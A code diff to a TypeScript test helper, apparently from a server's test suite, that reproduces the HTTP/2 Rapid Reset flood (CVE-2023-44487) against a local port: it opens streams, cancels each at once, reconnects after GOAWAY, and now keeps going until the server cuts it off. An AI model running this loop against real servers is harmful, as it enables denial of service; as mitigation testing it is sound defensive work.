@@ -168,17 +168,28 @@ export interface RapidReset {
   cut: number;
 }
 
-/** Opens streams of HTTP/2 and resets each at once (CVE-2023-44487), on a new connection whenever one is ended. */
+/** An attack goes on beyond its time until the target has shown what it does about it. */
+const PATIENCE_MS = 30_000;
+
+/**
+ * Opens streams of HTTP/2 and resets each at once (CVE-2023-44487), on a new connection whenever one is ended: for a
+ * time, and until one was.
+ */
 export async function rapidReset(port: number, path: string, forMs: number): Promise<RapidReset> {
   const told = { streams: 0, cut: 0 };
-  const endMs = performance.now() + forMs;
+  const startMs = performance.now();
+  const goesOn = () => performance.now() < startMs + (told.cut === 0 ? forMs + PATIENCE_MS : forMs);
   const headers = { ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers" };
-  while (performance.now() < endMs) {
+  while (goesOn()) {
     const session = connectHttp2(`http://127.0.0.1:${port}`, { localAddress: ATTACKER } as object);
     session.on("error", () => {});
-    session.on("goaway", () => session.destroy());
-    while (performance.now() < endMs && !session.destroyed && !session.closed) {
-      for (let index = 0; index < 100 && !session.destroyed && !session.closed; index++) {
+    session.once("goaway", () => {
+      told.cut++;
+      session.destroy();
+    });
+    const isOpen = () => !session.destroyed && !session.closed;
+    while (goesOn() && isOpen()) {
+      for (let index = 0; index < 50 && isOpen(); index++) {
         const stream = session.request(headers);
         stream.on("error", () => {});
         stream.close(constants.NGHTTP2_CANCEL);
@@ -186,7 +197,6 @@ export async function rapidReset(port: number, path: string, forMs: number): Pro
       }
       await pause(10); // The attacker must not hold up the honest clients of its own process.
     }
-    if (performance.now() < endMs) told.cut++;
     session.destroy();
   }
   return told;
